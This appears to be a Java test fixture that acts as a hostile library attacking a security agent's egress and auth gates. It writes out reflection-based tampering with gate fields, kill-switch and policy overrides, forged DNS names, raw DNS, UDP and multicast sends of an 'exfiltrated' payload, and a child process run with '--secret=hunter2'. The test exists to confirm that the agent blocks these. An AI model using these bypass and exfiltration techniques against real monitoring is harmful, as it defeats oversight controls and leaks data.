package dev.primus.it.apps.hostile;

import java.io.BufferedReader;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.lang.instrument.Instrumentation;
import java.lang.invoke.MethodHandles;
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.lang.reflect.Proxy;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ServiceLoader;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.function.Consumer;

/**
 * What a compromised dependency inside the app would try against the agent, one attack per
 * stdin line ({@code ATTACK HOST PORT}), each followed by a plain socket connect to
 * {@code HOST:PORT}, a destination the policy denies. Prints {@code RESULT <what the attack
 * achieved>; <the connect's outcome>}: {@code connected}, {@code DENIED ...} or {@code ERROR ...}.
 * Every attack is tried in earnest; the test asserts the connect after it is still denied.
 */
public final class HostileLibraryApp {
    private static final String BRIDGE = "dev.primus.bootstrap.";

    private HostileLibraryApp() {
    }

    public static void main(String[] args) throws Exception {
        // JDK 17's legacy datagram implementation, chosen at run time, before the first datagram socket.
        System.setProperty("jdk.net.usePlainDatagramSocketImpl", "true");
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        System.out.println("READY");
        System.out.flush();
        for (String line = in.readLine(); line != null && !line.equals("quit"); line = in.readLine()) {
            String[] words = line.trim().split(" ");
            String host = words[words.length - 2];
            int port = Integer.parseInt(words[words.length - 1]);
            String result;
            if (ROUTES.contains(words[0])) {
                result = "route " + words[0] + "; " + outcome(() -> route(words[0], words[1], host, port));
            } else {
                String attack;
                try {
                    attack = attack(words[0], words);
                } catch (Throwable failure) {
                    attack = "attack failed: " + failure;
                }
                result = attack + "; " + outcome(() -> connect(host, port));
            }
            System.out.println("RESULT " + result);
            System.out.flush();
        }
    }

    /** Attacks that are themselves a way to the destination, rather than something done before a plain connect. */
    private static final java.util.Set<String> ROUTES = java.util.Set.of("forged-name", "okhttp-own-dns", "vouched-name",
            "vouched-netty-name", "app-request-object", "net-connect",
            "legacy-datagram-connect", "multicast-send", "is-reachable", "reverse-lookup", "jndi-dns", "raw-dns-socket",
            "raw-dns-channel", "raw-dns-gathering", "lookup", "exec", "runtime-exec", "nested-in-proxy-selector", "stack-overflow-connect");

    /** A connection attempt: what it returns when it connects. */
    private interface Attempt {
        String run() throws Throwable;
    }

    private static String outcome(Attempt attempt) {
        try {
            return attempt.run();
        } catch (Throwable failure) {
            for (Throwable cause = failure; cause != null; cause = cause.getCause()) {
                if (cause.getClass().getName().equals(BRIDGE + "EgressDeniedException")
                        || cause.getClass().getName().equals(BRIDGE + "ProcessDeniedException")) {
                    return "DENIED " + cause.getMessage();
                }
            }
            return "ERROR " + failure;
        }
    }

    private static String connect(String host, int port) throws Throwable {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), 5000);
            return "connected";
        }
    }

    /**
     * A way to {@code address:port} under a name the policy allows ({@code name}), which no resolver
     * ever gave for that address.
     */
    private static String route(String route, String name, String address, int port) throws Throwable {
        java.net.InetAddress forged = java.net.InetAddress.getByAddress(name, java.net.InetAddress.getByName(address).getAddress());
        switch (route) {
            case "forged-name":
                try (Socket socket = new Socket()) {
                    socket.connect(new InetSocketAddress(forged, port), 5000);
                    return "connected";
                }
            case "okhttp-own-dns":
                okhttp3.OkHttpClient client = new okhttp3.OkHttpClient.Builder().dns(host -> java.util.List.of(forged)).build();
                try (okhttp3.Response response = client.newCall(new okhttp3.Request.Builder()
                        .url("http://" + name + ":" + port + "/").build()).execute()) {
                    return "connected " + response.code();
                }
            // The public bridge methods the woven JDK and Netty resolvers call, called by the app to
            // vouch for the allowed name on the denied address: what they hand over is not believed.
            case "vouched-name":
                Class.forName(BRIDGE + "EgressGate").getMethod("resolved", java.net.InetAddress[].class, String.class)
                        .invoke(null, new java.net.InetAddress[] {forged}, name);
                return connectTo(forged, port);
            case "vouched-netty-name":
                Class.forName(BRIDGE + "EgressGate").getMethod("resolvedAddress", java.net.InetAddress.class)
                        .invoke(null, forged);
                return connectTo(forged, port);
            // A request object of the app's own, handed to a public gate method: what it connects to
            // while the engine reads its URL is judged like any other connection.
            case "app-request-object":
                return appRequestObject(address, port);
            case "net-connect":
                return netConnect(address, port);
            case "legacy-datagram-connect":
                try (java.net.DatagramSocket socket = new java.net.DatagramSocket()) {
                    socket.connect(java.net.InetAddress.getByName(address), port);
                    byte[] payload = "exfiltrated".getBytes(StandardCharsets.UTF_8);
                    socket.send(new java.net.DatagramPacket(payload, payload.length));
                    return "sent";
                }
            case "multicast-send":
                try (java.net.MulticastSocket socket = new java.net.MulticastSocket()) {
                    byte[] payload = "exfiltrated".getBytes(StandardCharsets.UTF_8);
                    sendWithTtl(socket, new java.net.DatagramPacket(payload, payload.length,
                            java.net.InetAddress.getByName(address), port));
                    return "sent";
                }
            case "is-reachable":
                return "reachable " + java.net.InetAddress.getByName(address).isReachable(2000);
            // NAME is OUTER_URL|INNER_URL: the inner request is made from the ProxySelector the
            // JDK asks while the outer one connects, inside the outer one's judgement.
            case "nested-in-proxy-selector":
                return nestedInProxySelector(name.substring(0, name.indexOf('|')), name.substring(name.indexOf('|') + 1));
            // A connect from a nearly full stack, where the engine's check overflows: NAME is an allowed
            // HOST:PORT to warm the JDK's connect path on.
            case "stack-overflow-connect":
                return StackExhaustion.connect(name, address, port);
            // A child process reaches the network past every hook: NAME is the executable.
            case "exec":
                return "exited " + new ProcessBuilder(name, "--secret=hunter2").start().waitFor();
            case "runtime-exec":
                return "exited " + Runtime.getRuntime().exec(new String[] {name, "--secret=hunter2"}).waitFor();
            // DNS: NAME is what is asked, ADDRESS:PORT the resolver.
            case "reverse-lookup":
                return "answered " + java.net.InetAddress.getByAddress(java.net.InetAddress.getByName(name).getAddress())
                        .getHostName();
            case "lookup":
                return "resolved " + java.util.Arrays.toString(java.net.InetAddress.getAllByName(name));
            case "jndi-dns":
                java.util.Hashtable<String, String> environment = new java.util.Hashtable<>();
                environment.put(javax.naming.Context.INITIAL_CONTEXT_FACTORY, "com.sun.jndi.dns.DnsContextFactory");
                environment.put(javax.naming.Context.PROVIDER_URL, "dns://" + address + ":" + port);
                environment.put("com.sun.jndi.dns.timeout.retries", "1");
                try {
                    return "answered " + new javax.naming.directory.InitialDirContext(environment)
                            .getAttributes(name, new String[] {"A"});
                } catch (javax.naming.NameNotFoundException answered) {
                    return "answered NXDOMAIN";
                }
            case "raw-dns-socket":
                try (java.net.DatagramSocket socket = new java.net.DatagramSocket()) {
                    byte[] query = query(name);
                    socket.send(new java.net.DatagramPacket(query, query.length, java.net.InetAddress.getByName(address), port));
                    return "sent";
                }
            case "raw-dns-channel":
                try (java.nio.channels.DatagramChannel channel = java.nio.channels.DatagramChannel.open()) {
                    channel.connect(new InetSocketAddress(address, port));
                    channel.write(java.nio.ByteBuffer.wrap(query(name)));
                    return "sent";
                }
            case "raw-dns-gathering":
                // A gathering write, the query split over two buffers.
                try (java.nio.channels.DatagramChannel channel = java.nio.channels.DatagramChannel.open()) {
                    channel.connect(new InetSocketAddress(address, port));
                    byte[] query = query(name);
                    channel.write(new java.nio.ByteBuffer[] {java.nio.ByteBuffer.wrap(query, 0, 7),
                        java.nio.ByteBuffer.wrap(query, 7, query.length - 7)});
                    return "sent";
                }
            default:
                throw new IllegalArgumentException("no route " + route);
        }
    }

    private static String attack(String name, String[] words) throws Throwable {
        switch (name) {
            case "none":
                return "nothing tried";
            case "public-install":
                return publicInstall();
            case "call-depth":
                return callDepth();
            case "write-gate-fields":
                return writeStaticFields(Class.forName(BRIDGE + "EgressGate"));
            case "open-engine":
                return openEngine();
            case "engage-kill-switch":
                return engageKillSwitch();
            case "swap-policy":
                return swapPolicy();
            case "define-into-bridge":
                return defineIntoBridge();
            case "second-starter":
                return secondStarter(words[1]);
            case "reset-latch-and-start":
                return resetLatch() + ", " + secondStarter(words[1]);
            case "enter-without-leaving":
                return enterWithoutLeaving(words[1]);
            case "connect-while-request-is-read":
                return connectWhileRequestIsRead(words[words.length - 2], Integer.parseInt(words[words.length - 1]));
            case "forward-claim-unjudged":
                return forwardClaimUnjudged();
            default:
                throw new IllegalArgumentException("no attack " + name);
        }
    }

    /** {@code EgressGate.install(null)}, {@code AuthGate.install}, {@code LogMasking.install}: once public. */
    private static String publicInstall() {
        StringBuilder found = new StringBuilder();
        for (String gate : new String[] {"EgressGate", "AuthGate", "LogMasking"}) {
            try {
                for (java.lang.reflect.Method method : Class.forName(BRIDGE + gate).getMethods()) {
                    if (method.getName().equals("install")) {
                        method.invoke(null, (Object) null);
                        found.append(gate).append(".install called ");
                    }
                }
            } catch (Throwable failure) {
                found.append(gate).append(": ").append(failure).append(' ');
            }
        }
        return found.length() == 0 ? "no install method" : found.toString().trim();
    }

    /** {@code CallDepth.enter(EGRESS)} made the next connect look nested. */
    private static String callDepth() {
        try {
            Class<?> depth = Class.forName(BRIDGE + "CallDepth");
            depth.getMethod("enter", int.class).invoke(null, 0);
            depth.getMethod("enter", int.class).invoke(null, 3);
            return "CallDepth entered";
        } catch (ClassNotFoundException absent) {
            return "no CallDepth";
        } catch (Throwable failure) {
            return "CallDepth: " + failure;
        }
    }

    /** Every static field of a bridge class, set to null by reflection and by a private lookup. */
    private static String writeStaticFields(Class<?> type) {
        StringBuilder written = new StringBuilder();
        for (Field field : type.getDeclaredFields()) {
            if (!Modifier.isStatic(field.getModifiers()) || field.getType().isPrimitive()) {
                continue;
            }
            try {
                field.setAccessible(true);
                field.set(null, null);
                written.append(field.getName()).append(" written ");
                continue;
            } catch (Throwable refused) {
                // Try a method handle next.
            }
            try {
                MethodHandles.privateLookupIn(type, MethodHandles.lookup())
                        .findStaticSetter(type, field.getName(), field.getType()).invoke((Object) null);
                written.append(field.getName()).append(" written by handle ");
            } catch (Throwable refused) {
                // Sealed.
            }
        }
        return written.length() == 0 ? "no field written" : written.toString().trim();
    }

    /** The engine object, read off the gate, then every field of it and of what it holds opened and cleared. */
    /** The engine object a gate holds, read through a private lookup into the bridge: null when it holds none. */
    private static Object engineOf(String gateName) throws Throwable {
        Class<?> gate = Class.forName(BRIDGE + gateName);
        Object engine = null;
        for (Field field : gate.getDeclaredFields()) {
            if (Modifier.isStatic(field.getModifiers()) && field.getType().getName().endsWith("Checker")) {
                engine = MethodHandles.privateLookupIn(gate, MethodHandles.lookup())
                        .findStaticGetter(gate, field.getName(), field.getType()).invoke();
            }
        }
        return engine;
    }

    private static String openEngine() throws Throwable {
        Object engine = engineOf("EgressGate");
        if (engine == null) {
            return "no engine";
        }
        int opened = 0;
        int sealed = 0;
        for (Field field : engine.getClass().getDeclaredFields()) {
            try {
                field.setAccessible(true);
                opened++;
                if (!Modifier.isStatic(field.getModifiers()) && !field.getType().isPrimitive()) {
                    field.set(engine, null);
                }
            } catch (Throwable refused) {
                sealed++;
            }
        }
        return "engine " + engine.getClass().getName() + " in " + engine.getClass().getModule() + ": "
                + opened + " fields opened, " + sealed + " sealed";
    }

    /**
     * The kill switch's flag, reached through the engine's own class loader: set by reflection, by
     * a private lookup, and by calling its private check with a file that exists.
     */
    private static String engageKillSwitch() throws Throwable {
        Object engine = engineOf("EgressGate");
        if (engine == null) {
            return "no engine";
        }
        Class<?> killSwitch = Class.forName("dev.primus.agent.control.KillSwitch", true, engine.getClass().getClassLoader());
        StringBuilder tried = new StringBuilder();
        try {
            Field engaged = killSwitch.getDeclaredField("engaged");
            engaged.setAccessible(true);
            engaged.setBoolean(null, true);
            tried.append("flag set by reflection ");
        } catch (Throwable refused) {
            tried.append("reflection refused ");
        }
        try {
            MethodHandles.privateLookupIn(killSwitch, MethodHandles.lookup())
                    .findStaticSetter(killSwitch, "engaged", boolean.class).invoke(true);
            tried.append("flag set by handle ");
        } catch (Throwable refused) {
            tried.append("handle refused ");
        }
        try {
            java.lang.reflect.Method watch = killSwitch.getMethod("watch", java.io.File.class,
                    Class.forName("dev.primus.agent.audit.AuditPipeline", false, killSwitch.getClassLoader()));
            watch.invoke(null, new java.io.File("/"), null);
            tried.append("watch called");
        } catch (Throwable refused) {
            tried.append("watch refused");
        }
        return tried.toString();
    }

    /**
     * Live reload gave each engine a public {@code apply} that swaps the policy it judges by
     * ({@code apply(null, false)} on the masking engine turns masking off). Called on each gate's
     * engine by reflection and through a public lookup, with null arguments.
     */
    private static String swapPolicy() throws Throwable {
        StringBuilder tried = new StringBuilder("apply:");
        for (String gate : new String[] {"EgressGate", "LogMasking", "AuthGate"}) {
            Object engine = engineOf(gate);
            if (engine == null) {
                tried.append(' ').append(gate).append(" has no engine");
                continue;
            }
            for (java.lang.reflect.Method apply : engine.getClass().getMethods()) {
                if (!apply.getName().equals("apply")) {
                    continue;
                }
                Object[] nulls = new Object[apply.getParameterCount()];
                for (int i = 0; i < nulls.length; i++) {
                    nulls[i] = apply.getParameterTypes()[i] == boolean.class ? Boolean.FALSE : null;
                }
                try {
                    apply.invoke(engine, nulls);
                    tried.append(' ').append(gate).append(" called by reflection");
                } catch (IllegalAccessException refused) {
                    tried.append(' ').append(gate).append(" reflection refused");
                }
                try {
                    MethodHandles.publicLookup().unreflect(apply);
                    tried.append(' ').append(gate).append(" handle found");
                } catch (IllegalAccessException refused) {
                    tried.append(' ').append(gate).append(" handle refused");
                }
            }
        }
        return tried.toString();
    }

    /** A class of its own defined into the bridge package, with the package access that brings. */
    private static String defineIntoBridge() throws Throwable {
        byte[] bytes;
        try (InputStream in = HostileLibraryApp.class.getResourceAsStream("/dev/primus/bootstrap/Intruder.class")) {
            bytes = in.readAllBytes();
        }
        Class<?> gate = Class.forName(BRIDGE + "EgressGate");
        Class<?> intruder = MethodHandles.privateLookupIn(gate, MethodHandles.lookup()).defineClass(bytes);
        return "defined in " + (intruder.getClassLoader() == null ? "the bootstrap loader" : intruder.getClassLoader())
                + ": " + intruder.getMethod("tryToReplaceTheEngines").invoke(null);
    }

    /**
     * The installer inside the agent's module, found as the service its module provides and run
     * with a config that allows everything and an Instrumentation of its own.
     */
    private static String secondStarter(String allowAllConfig) throws Throwable {
        Object engine = engine();
        ModuleLayer layer = engine.getClass().getModule().getLayer();
        if (layer == null) {
            return "no module layer";
        }
        Instrumentation fake = (Instrumentation) Proxy.newProxyInstance(HostileLibraryApp.class.getClassLoader(),
                new Class<?>[] {Instrumentation.class}, (proxy, method, arguments) -> {
                    Class<?> returns = method.getReturnType();
                    return returns == boolean.class ? Boolean.FALSE : returns.isArray()
                            ? java.lang.reflect.Array.newInstance(returns.getComponentType(), 0) : null;
                });
        int started = 0;
        for (Consumer<?> starter : ServiceLoader.load(layer, Consumer.class)) {
            @SuppressWarnings("unchecked")
            Consumer<Object[]> start = (Consumer<Object[]>) starter;
            start.accept(new Object[] {"config=" + allowAllConfig, fake, Boolean.TRUE});
            started++;
        }
        return started + " starter(s) run";
    }

    /**
     * The JDK's own connect below every NIO socket, called directly, as code can with
     * {@code --add-opens java.base/sun.nio.ch}: a fresh socket descriptor from {@code Net.socket}.
     */
    private static String connectTo(java.net.InetAddress address, int port) throws Throwable {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(address, port), 5000);
            return "connected";
        }
    }

    /** An OkHttp interceptor chain's shape, as the engine reads it: {@code request().url()}. */
    public static final class AppChain {
        private final String address;
        private final int port;
        Throwable inside;

        AppChain(String address, int port) {
            this.address = address;
            this.port = port;
        }

        public AppChain request() {
            try {
                connect(address, port);
            } catch (Throwable failure) {
                inside = failure;
            }
            return this;
        }

        public Object url() {
            return "http://" + ALLOWED_URL_HOST + "/";
        }
    }

    /** A host the policy allows, for the URL the app's chain claims: the frame itself is allowed. */
    private static final String ALLOWED_URL_HOST = "127.0.0.2";

    private static String appRequestObject(String address, int port) throws Throwable {
        AppChain chain = new AppChain(address, port);
        Class<?> gate = Class.forName(BRIDGE + "EgressGate");
        try {
            gate.getMethod("enterOkHttp", Object.class).invoke(null, chain);
        } catch (java.lang.reflect.InvocationTargetException denied) {
            // Whatever the gate says of the claimed URL, what counts is the connection made inside.
        } finally {
            gate.getMethod("exitHttp").invoke(null);
        }
        if (chain.inside != null) {
            throw chain.inside;
        }
        return "connected";
    }

    private static String netConnect(String address, int port) throws Throwable {
        Class<?> net = Class.forName("sun.nio.ch.Net");
        // Net.socket(family, stream) on JDK 17 and 25 alike.
        java.lang.reflect.Method socket = net.getDeclaredMethod("socket", java.net.ProtocolFamily.class, boolean.class);
        socket.setAccessible(true);
        java.io.FileDescriptor fd = (java.io.FileDescriptor) socket.invoke(null, java.net.StandardProtocolFamily.INET, true);
        java.lang.reflect.Method connect = net.getDeclaredMethod("connect", java.io.FileDescriptor.class,
                java.net.InetAddress.class, int.class);
        connect.setAccessible(true);
        try {
            return "connected " + connect.invoke(null, fd, java.net.InetAddress.getByName(address), port);
        } catch (java.lang.reflect.InvocationTargetException failure) {
            throw failure.getCause();
        }
    }

    /** The inner request's outcome, made while the JDK asks the ProxySelector where the outer one goes. */
    private static String nestedInProxySelector(String outer, String inner) throws Throwable {
        java.net.ProxySelector original = java.net.ProxySelector.getDefault();
        String[] innerOutcome = {"inner request never made"};
        java.net.ProxySelector.setDefault(new java.net.ProxySelector() {
            @Override
            public java.util.List<java.net.Proxy> select(java.net.URI uri) {
                if (uri.toString().startsWith(outer) && innerOutcome[0].startsWith("inner request never")) {
                    innerOutcome[0] = outcome(() -> {
                        java.net.HttpURLConnection connection = (java.net.HttpURLConnection) new java.net.URL(inner).openConnection();
                        connection.setRequestProperty("X-Exfiltrated", "4111111111111111");
                        try (InputStream body = connection.getInputStream()) {
                            return "inner " + connection.getResponseCode() + " " + new String(body.readAllBytes(), StandardCharsets.UTF_8);
                        }
                    });
                }
                return java.util.List.of(java.net.Proxy.NO_PROXY);
            }

            @Override
            public void connectFailed(java.net.URI uri, java.net.SocketAddress address, java.io.IOException failure) {
            }
        });
        try {
            java.net.HttpURLConnection connection = (java.net.HttpURLConnection) new java.net.URL(outer).openConnection();
            int status = connection.getResponseCode();
            return innerOutcome[0] + " (outer " + status + ")";
        } finally {
            java.net.ProxySelector.setDefault(original);
        }
    }

    /** A DNS query for {@code name}, type A, built by hand as any small client builds one. */
    private static byte[] query(String name) {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        bytes.writeBytes(new byte[] {0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00});
        for (String label : name.split("\\.")) {
            byte[] text = label.getBytes(StandardCharsets.US_ASCII);
            bytes.write(text.length);
            bytes.writeBytes(text);
        }
        bytes.writeBytes(new byte[] {0x00, 0x00, 0x01, 0x00, 0x01});
        return bytes.toByteArray();
    }

    /** {@code MulticastSocket.send(packet, ttl)}: deprecated, still there, and a path of its own on JDK 17. */
    @SuppressWarnings("deprecation")
    private static void sendWithTtl(java.net.MulticastSocket socket, java.net.DatagramPacket packet) throws Throwable {
        socket.send(packet, (byte) 1);
    }

    /** The latch that refuses a second installation, reset through its mutable object. */
    private static String resetLatch() throws Throwable {
        Class<?> installation = Class.forName(BRIDGE + "GateInstallation");
        for (Field field : installation.getDeclaredFields()) {
            if (field.getType() == AtomicBoolean.class) {
                AtomicBoolean claimed = (AtomicBoolean) MethodHandles.privateLookupIn(installation, MethodHandles.lookup())
                        .findStaticGetter(installation, field.getName(), AtomicBoolean.class).invoke();
                claimed.set(false);
                return "latch reset";
            }
        }
        return "no latch";
    }

    /**
     * An HTTP request to an allowed URL entered on this thread and never left, so that what
     * follows looks like part of it.
     */
    private static String enterWithoutLeaving(String allowedUrl) throws Throwable {
        java.net.URLConnection connection = new java.net.URL(allowedUrl).openConnection();
        Class.forName(BRIDGE + "EgressGate").getMethod("enterHttp", java.net.URLConnection.class).invoke(null, connection);
        return "entered " + allowedUrl;
    }

    /**
     * A request of the app's own, let through by the public {@code AuthGate.enterRequest}, whose
     * {@code getHeader("traceparent")} connects to {@code address:port}: the first audit event of the
     * request reads that header for its trace id, and a denied connect raises one. That event was
     * built while the egress engine judged, its checks on the thread suspended.
     */
    private static String connectWhileRequestIsRead(String address, int port) throws Throwable {
        String[] fromHeader = {"the header was not read"};
        Object request = appRequest("/orders", () -> "REQUEST", new java.util.HashMap<>(), name -> {
            if ("traceparent".equals(name)) {
                fromHeader[0] = outcome(() -> connect(address, port));
            }
        });
        Class<?> gate = Class.forName(BRIDGE + "AuthGate");
        Object admitted = gate.getMethod("enterRequest", Object.class, Object.class).invoke(null, request, appResponse());
        try {
            outcome(() -> connect(address, port)); // denied: its audit event reads the request
        } finally {
            gate.getMethod("exitRequest").invoke(null);
        }
        return (admitted == null ? "refused" : "admitted") + ", from the header: " + fromHeader[0];
    }

    /**
     * A request to a path the config refuses ({@code /admin/**}), handed to the public gate first
     * claiming a FORWARD dispatch, as a wrapper a listener or filter passes on can, and never left;
     * then, on the same thread, as the REQUEST dispatch it is. Before the agent asked for proof that
     * a dispatch's request was judged, the first call passed unjudged and its frame, left behind,
     * made the second pass as nested in it. Then another request under a wrapper whose path is a
     * public one: judged by the path the container's own request has.
     */
    private static String forwardClaimUnjudged() throws Throwable {
        String[] dispatch = {"FORWARD"};
        Object request = appRequest("/admin/users", () -> dispatch[0], new java.util.HashMap<>(), name -> { });
        Object response = appResponse();
        Class<?> gate = Class.forName(BRIDGE + "AuthGate");
        java.lang.reflect.Method enter = gate.getMethod("enterRequest", Object.class, Object.class);
        Object claimed = enter.invoke(null, request, response);
        dispatch[0] = "REQUEST";
        Object asItIs = enter.invoke(null, request, response);
        // A wrapper in the container's place whose path is another: the container routes by its own.
        Object inner = appRequest("/admin/users", () -> "REQUEST", new java.util.HashMap<>(), name -> { });
        Object lying = new javax.servlet.http.HttpServletRequestWrapper((javax.servlet.http.HttpServletRequest) inner) {
            @Override
            public String getRequestURI() {
                return "/public";
            }
        };
        Object wrapped = enter.invoke(null, lying, response);
        for (Object admitted : new Object[] {wrapped, asItIs, claimed}) {
            if (admitted != null) {
                gate.getMethod("exitRequest").invoke(null);
            }
        }
        return "as a forward: " + (claimed == null ? "refused" : "admitted") + ", then as a request: "
                + (asItIs == null ? "refused" : "admitted") + ", under a wrapper naming another path: "
                + (wrapped == null ? "refused" : "admitted");
    }

    /**
     * A GET of {@code path} from 10.1.2.3, an object of the app's own: its dispatch type as
     * {@code dispatch} says when asked, its attributes in {@code attributes}, each header it is
     * asked for told to {@code onHeader} (and absent).
     */
    private static Object appRequest(String path, java.util.function.Supplier<String> dispatch,
                                     java.util.Map<Object, Object> attributes,
                                     java.util.function.Consumer<String> onHeader) {
        return Proxy.newProxyInstance(HostileLibraryApp.class.getClassLoader(),
                new Class<?>[] {javax.servlet.http.HttpServletRequest.class}, (proxy, method, arguments) -> {
                    switch (method.getName()) {
                        case "getDispatcherType":
                            return javax.servlet.DispatcherType.valueOf(dispatch.get());
                        case "getMethod":
                            return "GET";
                        case "getRequestURI":
                        case "getServletPath":
                            return path;
                        case "getContextPath":
                            return "";
                        case "getRemoteAddr":
                            return "10.1.2.3";
                        case "getHeader":
                            onHeader.accept((String) arguments[0]);
                            return null;
                        case "getAttribute":
                            return attributes.get(arguments[0]);
                        case "setAttribute":
                            attributes.put(arguments[0], arguments[1]);
                            return null;
                        case "hashCode":
                            return System.identityHashCode(proxy);
                        case "equals":
                            return proxy == arguments[0];
                        case "toString":
                            return "AppRequest";
                        default:
                            return zero(method.getReturnType());
                    }
                });
    }

    /** A response of the app's own, which answers nothing. */
    private static Object appResponse() {
        return Proxy.newProxyInstance(HostileLibraryApp.class.getClassLoader(),
                new Class<?>[] {javax.servlet.http.HttpServletResponse.class}, (proxy, method, arguments) ->
                        zero(method.getReturnType()));
    }

    /** What a method of a request or response of the app's own answers when it has nothing to say. */
    private static Object zero(Class<?> type) {
        if (type == boolean.class) {
            return Boolean.FALSE;
        }
        if (type == int.class) {
            return 0;
        }
        return type == long.class ? (Object) 0L : null;
    }

    private static Object engine() throws Throwable {
        Class<?> gate = Class.forName(BRIDGE + "EgressGate");
        for (Field field : gate.getDeclaredFields()) {
            if (Modifier.isStatic(field.getModifiers()) && field.getType().getName().endsWith("Checker")) {
                return MethodHandles.privateLookupIn(gate, MethodHandles.lookup())
                        .findStaticGetter(gate, field.getName(), field.getType()).invoke();
            }
        }
        throw new IllegalStateException("no engine field");
    }

}
